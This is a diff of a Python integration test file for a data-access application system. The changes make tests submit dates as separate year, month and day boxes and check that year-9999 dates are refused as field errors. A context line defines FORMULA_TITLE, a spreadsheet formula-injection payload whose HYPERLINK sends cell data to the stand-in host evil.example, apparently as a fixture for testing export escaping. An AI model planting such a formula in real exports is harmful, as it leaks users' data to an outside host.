@@ -28,6 +28,7 @@ from projects.models import Application, Project
 from tests.conftest import sign_in_session
 from tests.integration.test_pages import csrf_from
 from tests.support import factories as f
+from tests.support.date_boxes import boxes
 
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full data")'
 
@@ -70,8 +71,10 @@ def test_an_access_end_date_in_year_9999_is_a_field_error_not_a_500(
     sign_in_session(client, session_factory, "dacchair")
     token = csrf_from(client.get(f"/applications/{page_app}").get_data(as_text=True))
     page = client.post(f"/applications/{page_app}/decision", data={
-        "csrf_token": token, "outcome": "approved", "access_end_date": "9999-12-31"}, follow_redirects=True)
-    assert page.status_code == 200 and "on or before" in page.get_data(as_text=True)
+        "csrf_token": token, "outcome": "approved", **boxes("access_end_date", "9999-12-31")})
+    html = page.get_data(as_text=True)
+    assert page.status_code == 422 and "The access end date must be on or before" in html
+    assert 'name="access_end_date-year" type="text" inputmode="numeric" value="9999"' in html  # kept as typed
     api = client.post(f"/api/v1/applications/{api_app}/decision", headers=_bearer(session_factory, "dacchair"),
                       json={"outcome": "approved", "access_end_date": "9999-12-31"})
     assert api.status_code == 422 and "access_end_date" in api.json["detail"]["fields"], api.json
@@ -101,11 +104,12 @@ def test_an_amendment_asking_for_year_9999_is_refused_when_saved(
 def test_audit_filters_up_to_the_last_day_of_the_calendar_are_field_errors(
         client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
     sign_in_session(client, session_factory, "auditor")
-    assert client.get("/audit/?until=9999-12-31").status_code == 422
-    assert client.get("/audit/events.csv?until=9999-12-31").status_code == 422
+    last = boxes("until", "9999-12-31")
+    assert client.get("/audit/", query_string=last).status_code == 422
+    assert client.get("/audit/events.csv", query_string=last).status_code == 422
     api = client.get("/api/v1/audit/events?until=9999-12-31", headers=_bearer(session_factory, "auditor"))
     assert api.status_code == 422 and "until" in api.json["detail"]["fields"]
-    assert client.get(f"/audit/?until={dt.date.today().isoformat()}").status_code == 200
+    assert client.get("/audit/", query_string=boxes("until", dt.date.today())).status_code == 200
 
 
 # --- 10: blinded counts -----------------------------------------------------------------------------------------
